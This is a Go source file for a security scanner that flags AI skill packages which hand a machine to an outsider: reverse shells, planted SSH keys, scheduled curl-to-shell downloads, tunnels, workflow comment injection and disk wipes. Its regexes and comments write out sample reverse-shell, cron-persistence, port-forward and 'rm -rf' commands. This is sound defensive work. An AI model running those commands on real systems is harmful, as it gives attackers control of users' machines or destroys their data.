package scan

import (
	"net/netip"
	"regexp"
	"strings"
)

// A skill need not take anything to harm the user: it can hand the machine
// itself to someone else. A shell that calls out to a host and takes its
// orders from there (bash -i >& /dev/tcp/HOST/PORT 0>&1, its forms in every
// language), a public key of someone else's added to the user's
// authorized_keys, a schedule or a login that runs whatever a host serves
// from then on ("*/5 * * * * curl -s https://…/k.sh | bash"), the SSH port
// opened through a tunnel of an account written out. Each gives whoever
// holds the other end the user's machine for as long as it lasts. The
// readings are the same in a script, a block the skill runs or a line of
// its prose: a security skill's examples sit in blocks the skill does not
// run, and a lab's shell calls a private address or a placeholder.

var (
	// reverseShellRE is a shell whose input and output go to a host, and
	// the host: /dev/tcp redirections, netcat's -e, a fifo piped to nc,
	// socat's exec, and the socket-and-shell scripts of Python, PHP,
	// Perl, Ruby and PowerShell.
	reverseShellRE = mustGate(`(?i)(?:\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,20}|\bexec\s+\d+<>)\s*[<>&\d\s]*/dev/(?:tcp|udp)/([\w.-]+)/\d+` +
		`|/dev/(?:tcp|udp)/([\w.-]+)/\d+\s*0>&1` +
		`|\b(?:nc|ncat|netcat)\b[^\n|;]*?\s(?:-e|-c|--exec|--sh-exec)\s+["']?(?:/bin/|/usr/bin/)?(?:ba|z)?sh\b[^\n|;]*?\s([\w.-]+\.[\w.-]+)\s+\d+` +
		`|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*([\w.-]+\.[\w.-]+)\s+\d+\s+(?:-e|-c|--exec)\s+["']?(?:/bin/)?(?:ba|z)?sh\b` +
		`|\bmkfifo\b[^\n]*\|\s*(?:/bin/)?(?:ba)?sh\s+-i\b[^\n]*\|\s*(?:nc|ncat|netcat)\s+(?:-\w+\s+)*([\w.-]+)\s+\d+` +
		`|\bsocat\b[^\n]*\bexec:[^\n]*\b(?:tcp|ssl|openssl)(?:-connect)?:([\w.-]+):\d+` +
		`|\.connect\(\s*\(\s*["']([\w.-]+)["']\s*,\s*\d+\s*\)\s*\)[^\n]{0,200}?(?:dup2|pty\.spawn|/bin/(?:ba)?sh)` +
		`|\bfsockopen\(\s*["']([\w.-]+)["']\s*,\s*\d+\s*\)[^\n]{0,200}?(?:exec|shell_exec|proc_open|system|passthru)\s*\(` +
		`|\bTCPSocket\.(?:new|open)\(\s*["']([\w.-]+)["']\s*,\s*\d+\s*\)[^\n]{0,200}?(?:exec|spawn|/bin/(?:ba)?sh|IO\.popen)` +
		`|\bNet\.Sockets\.TCPClient\(\s*["']([\w.-]+)["']\s*,\s*\d+\s*\)[^\n]{0,400}?(?:iex|Invoke-Expression)\b` +
		`|\bsockaddr_in\(\s*\d+\s*,\s*inet_aton\(\s*["']([\w.-]+)["']\s*\)\s*\)[^\n]{0,200}?exec\s*\(\s*["']/bin/(?:ba)?sh`)
	// sshKeyRE is an SSH public key written out.
	sshKeyRE = regexp.MustCompile(`\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d+|sk-ssh-ed25519@openssh\.com)\s+AAAA[\w+/=]{8,}`)
	// keyAddedRE adds to a file of authorized keys.
	keyAddedRE = regexp.MustCompile(`(?i)(?:>>|\btee\s+(?:-\w+\s+)*-a\b|\btee\s+--append\b|\bappend|\badd|\bwrite_file|\binsert|\bput)[^\n]{0,200}?authorized_keys|authorized_keys[^\n]{0,40}?\b(?:append|add)`)
	// placeholderKeyRE marks a key written for the reader to fill in.
	placeholderKeyRE = regexp.MustCompile(`(?i)AAAA[\w+/=]{0,12}\.\.\.|<[^>\n]*>|\byour\b|\byou@|\buser@(?:host|laptop|machine|example)|\$\{?\w+`)
	// scheduledDownloadRE is a download piped into a shell, or run by one.
	scheduledDownloadRE = regexp.MustCompile(`(?i)\b(?:curl|wget)\b[^\n|;]*?(https?://[^\s"'|;)]+)[^\n|;]*\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b|\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b[^\n)]*?(https?://[^\s"'|;)]+)`)
	// laterRE is where a command is kept to run later: a crontab's line
	// or its entry, systemd's ExecStart, a shell's start-up file, a
	// launch agent's arguments.
	laterRE = regexp.MustCompile(`(?i)(?:^|["'\s(])(?:@(?:reboot|hourly|daily|weekly)|(?:\*|\d+|\*/\d+)(?:\s+(?:\*|\d+|\*/\d+|[\d,-]+)){4})\s|\bcrontab\b|\bExecStart(?:Pre|Post)?\s*=|>>\s*["']?(?:~|\$HOME|\$\{HOME\})?/?[\w/.-]*\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b|<string>(?:/bin/)?(?:ba|z)?sh</string>`)
	// tunnelAccountRE is a tunnel of the machine's SSH or remote desktop
	// port opened under an account written out: its owner reaches the
	// port.
	tunnelAccountRE = regexp.MustCompile(`(?i)\bngrok\s+(?:tcp\s+(?:22|3389|5900)\b[^\n]*?--authtoken[=\s]+["']?([\w-]{16,})|config\s+add-authtoken\s+["']?([\w-]{16,})[^\n]*(?:\n[^\n]*){0,6}?\bngrok\s+tcp\s+(?:22|3389|5900)\b)`)
	// dialRE dials a fixed host, in a program whose shell
	// (shellBoundRE) reads from and writes to the connection: Go's and
	// Node's reverse shells, spread over lines.
	dialRE       = regexp.MustCompile(`\bnet\.Dial(?:Timeout)?\(\s*"tcp"\s*,\s*"([\w.-]+):\d+"|\bnet\.(?:connect|createConnection)\(\s*\d+\s*,\s*["']([\w.-]+)["']|\bnet\.(?:connect|createConnection)\(\s*\{[^}]*host\s*:\s*["']([\w.-]+)["']`)
	shellBoundRE = regexp.MustCompile(`(?s)(?:exec\.Command|spawn|execFile)\(\s*["'](?:/bin/|/usr/bin/)?(?:ba|z)?sh["'].{0,400}?(?:\.Stdin\b[^\n]*=|\.pipe\(|stdio\s*:\s*\[)|(?:\.Stdin\b[^\n]*=|\.pipe\().{0,400}?(?:exec\.Command|spawn)\(\s*["'](?:/bin/|/usr/bin/)?(?:ba|z)?sh["']`)
	// hiddenRunRE downloads a program to a hidden file or from an
	// address that is a bare public IP, and runs it.
	hiddenRunRE = regexp.MustCompile(`\b(?:curl|wget)\b[^\n;&|]*?((?:https?://|\$[({]?\w+[)}]?)[^\s"';&|)]*)[^\n;&|]*?\s(?:-o|-O|--output)\s*["']?((?:/tmp|/var/tmp|/dev/shm|\$TMPDIR|~|\$HOME|\$\(HOME\))/\.[\w.-]+|[^\s"';&|]+)["']?[^\n]*?(?:&&|;)\s*(?:chmod\s+\+?[0-7x+]+\s+["']?[^\s"';&|]+["']?\s*(?:&&|;)\s*)?(?:nohup\s+|setsid\s+|sudo\s+)?["']?([^\s"';&|]+)`)
	// commentRunRE runs, as a workflow's command, text anyone who can
	// comment or open an issue or a pull request writes.
	commentRunRE = regexp.MustCompile(`(?m)^\s*(?:-\s+)?run:\s*(?:\|[-+]?\s*\n\s*)?\$\{\{\s*github\.(?:event\.(?:comment|issue|pull_request|review|discussion|head_commit)\.(?:body|title|message)|head_ref)\s*\}\}`)
	// wipeRE deletes the home folder's contents, or the disk's.
	wipeRE = regexp.MustCompile(`\brm\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*\s+|-[a-zA-Z]*f[a-zA-Z]*\s+|--no-preserve-root\s+)+["']?(?:/|/\*|~|~/\*?|\$HOME/?\*?|\$\{HOME\}/?\*?|"\$HOME"/?\*?)["']?(?:\s|$|;|&)`)
	// reverseForwardRE forwards a port of a fixed host to the machine's
	// SSH or remote desktop port (ssh -R 2222:localhost:22 svc@host).
	reverseForwardRE = regexp.MustCompile(`\bssh\b[^\n|;&]*?\s-R\s*(?:[\w.*]+:)?\d+:(?:localhost|127\.0\.0\.1)?:?(?:22|3389|5900)\b[^\n|;&]*?\s[\w.-]+@([a-z0-9][\w-]*(?:\.[\w-]+)+)`)
)

// shellWords are the words of reverseShellRE, dialWords those of dialRE:
// a unit holding none is not run through them.
var (
	shellWords = []string{"/dev/tcp", "/dev/udp", " nc ", "\tnc ", "\nnc ", "|nc ", ";nc ", "(nc ", "ncat", "netcat", "socat", ".connect((", "fsockopen", "tcpsocket", "tcpclient", "sockaddr_in"}
	dialWords  = []string{"net.dial", "net.connect", "createconnection"}
)

// accessWords gate the readings: a text holding none of them is not read.
var accessWords = []string{"/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "socat", "connect(", "fsockopen", "tcpsocket", "tcpclient", "sockaddr_in", "authorized_keys", "curl", "wget", "ngrok", "ssh ", "net.dial", "createconnection", "github.event", "head_ref", "rm "}

// handedAccess adds, to each file of a skill, a shell handed to a host, a
// key of someone else's added to the user's authorized keys, a download
// run on a schedule or at each login, or the SSH port opened to an
// account written out.
func handedAccess(r *skillReading, scanned []*findings) {
	for i := range r.texts {
		if !containsAny(r.lowered(i), accessWords) {
			continue
		}
		for _, u := range r.unitsOf(i) {
			if start, end, msg := accessIn(u.text, r.loweredUnit(i, u), u.prose); msg != "" {
				scanned[i].add(RuleExfiltrate, SeverityWithhold, u.start+start, u.start+end, msg)
				break
			}
		}
	}
}

// accessIn returns the first span of a unit that hands access over, and
// what it does; lower is the unit lowercased.
func accessIn(text, lower string, prose bool) (int, int, string) {
	if containsAny(lower, shellWords) || strings.HasPrefix(lower, "nc ") {
		for _, m := range reverseShellRE.FindAllStringSubmatchIndex(text, 4) {
			if host := firstGroup(text, m); host != "" && outsideHost(host) {
				return m[0], m[1], "a shell that takes its commands from " + host
			}
		}
	}
	if strings.Contains(text, "authorized_keys") {
		for _, line := range lineSpans(text) {
			l := text[line[0]:line[1]]
			if k := sshKeyRE.FindStringIndex(l); k != nil && keyAddedRE.MatchString(l) && !placeholderKeyRE.MatchString(l[k[0]:min(len(l), k[1]+40)]) {
				return line[0], line[1], "a public key written out added to the user's authorized keys: its owner logs in as the user"
			}
		}
	}
	if !prose && (strings.Contains(lower, "curl") || strings.Contains(lower, "wget")) {
		for _, line := range lineSpans(text) {
			l := text[line[0]:line[1]]
			if !strings.Contains(l, "|") && !strings.Contains(l, "$(") {
				continue
			}
			if m := scheduledDownloadRE.FindStringSubmatch(l); m != nil && laterRE.MatchString(l) {
				if h := urlHostRE.FindStringSubmatch(m[1] + m[2]); h != nil && !ownHost(strings.ToLower(h[1]), nil) {
					return line[0], line[1], "whatever " + strings.ToLower(h[1]) + " serves run on a schedule or at each login, from now on"
				}
			}
		}
	}
	if !prose {
		if containsAny(lower, dialWords) {
			if m := dialRE.FindStringSubmatchIndex(text); m != nil && outsideHost(firstGroup(text, m)) && shellBoundRE.MatchString(text) {
				return m[0], m[1], "a shell that takes its commands from " + strings.ToLower(firstGroup(text, m))
			}
		}
		var downloads [][]int
		if (strings.Contains(lower, "curl") || strings.Contains(lower, "wget")) && (strings.Contains(text, " -o") || strings.Contains(text, " -O") || strings.Contains(text, "--output")) {
			downloads = hiddenRunRE.FindAllStringSubmatchIndex(text, 4)
		}
		for _, m := range downloads {
			url, file, ran := text[m[2]:m[3]], text[m[4]:m[5]], text[m[6]:m[7]]
			if !strings.HasSuffix(ran, strings.TrimPrefix(file, "./")) {
				continue
			}
			hidden := strings.Contains(file, "/.")
			if h := urlHostRE.FindStringSubmatch(url); h != nil {
				host := strings.ToLower(h[1])
				if _, err := netip.ParseAddr(host); (err == nil || hidden) && outsideHost(host) {
					return m[0], m[1], "a program downloaded from " + host + " to " + file + " and run"
				}
			} else if hidden {
				return m[0], m[1], "a program downloaded to a hidden file, " + file + ", and run"
			}
		}
		if strings.Contains(text, "github.event") || strings.Contains(text, "head_ref") {
			if m := commentRunRE.FindStringIndex(text); m != nil {
				return m[0], m[1], "a workflow that runs, as its command, what anyone who comments writes"
			}
		}
	}
	if !prose && strings.Contains(text, "rm ") {
		for _, line := range lineSpans(text) {
			l := text[line[0]:line[1]]
			if m := wipeRE.FindStringIndex(l); m != nil && !commentLine(l) && commandAt(l, m[0]) {
				return line[0] + m[0], line[0] + m[1], "the user's home folder or the whole disk deleted"
			}
		}
	}
	if !strings.Contains(lower, "ngrok") && !strings.Contains(text, "-R") {
		return 0, 0, ""
	}
	if m := tunnelAccountRE.FindStringIndex(text); m != nil {
		return m[0], m[1], "the machine's login port opened through a tunnel of an account the skill writes out"
	}
	if m := reverseForwardRE.FindStringSubmatchIndex(text); m != nil && outsideHost(text[m[2]:m[3]]) {
		return m[0], m[1], "the machine's login port forwarded to " + strings.ToLower(text[m[2]:m[3]])
	}
	return 0, 0, ""
}

// commandLeadRE is what may come before a command on its line: a prompt,
// sudo, or the end of the command before it.
var commandLeadRE = regexp.MustCompile(`(?:^\s*(?:\$\s+|-\s+)?|(?:&&|\|\||;)\s*)(?:sudo\s+)?$`)

// commandAt reports whether the command at pos of a line runs: it starts
// the line or follows another, outside quotes ("; rm -rf /" quoted as an
// attacker's input runs nothing).
func commandAt(line string, pos int) bool {
	lead := line[:pos]
	return strings.Count(lead, `"`)%2 == 0 && strings.Count(lead, "'")%2 == 0 && commandLeadRE.MatchString(lead)
}

// firstGroup returns the first group a match captured.
func firstGroup(text string, m []int) string {
	for g := 2; g+1 < len(m); g += 2 {
		if m[g] >= 0 {
			return text[m[g]:m[g+1]]
		}
	}
	return ""
}

// outsideHost reports a host written out that is neither this machine, a
// private network's address nor a placeholder: a lab's listener is on
// the lab's network.
func outsideHost(host string) bool {
	host = strings.ToLower(host)
	if a, err := netip.ParseAddr(host); err == nil {
		return !(a.IsLoopback() || a.IsPrivate() || a.IsLinkLocalUnicast() || a.IsUnspecified())
	}
	return strings.Contains(host, ".") && !ownHost(host, nil) && !lhostRE.MatchString(host)
}

// lhostRE is a listener's address written as a placeholder by the tools
// of penetration testers.
var lhostRE = regexp.MustCompile(`(?i)^(?:lhost|rhost|attacker-ip|your-ip|x\.x\.x\.x|\d+\.\d+\.\d+\.x)$`)

// lineSpans returns the spans of text's lines.
func lineSpans(text string) [][2]int {
	var out [][2]int
	for start := 0; start <= len(text); {
		end := lineEnd(text, start)
		out = append(out, [2]int{start, end})
		if end >= len(text) {
			break
		}
		start = end + 1
	}
	return out
}
